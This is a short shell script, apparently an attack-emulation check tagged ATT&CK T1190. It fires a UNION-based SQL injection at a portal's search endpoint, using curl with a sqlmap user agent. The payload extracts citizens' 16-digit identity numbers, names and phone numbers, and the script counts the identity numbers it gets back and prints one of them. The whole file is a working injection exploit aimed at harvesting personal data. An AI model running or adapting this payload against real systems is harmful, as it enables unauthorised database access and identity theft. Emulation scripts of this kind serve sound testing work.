# T1190: a UNION injection in the portal's search dumps the citizens' identity numbers (NIK).
# Succeeds when identity numbers come back.
out=$(curl -s -m 5 -A "sqlmap/1.7" -G http://web:8080/search \
  --data-urlencode "q=zz' UNION SELECT nik, name || ' ' || phone FROM citizens -- ")
niks=$(printf '%s' "$out" | grep -oE '[0-9]{16}' | sort -u | wc -l)
if [ "$niks" -gt 0 ]; then
  echo "dumped $niks identity numbers, e.g. $(printf '%s' "$out" | grep -oE '[0-9]{16}' | head -n 1)"
  exit 0
fi
echo "the injection returned no identity numbers"
exit 1
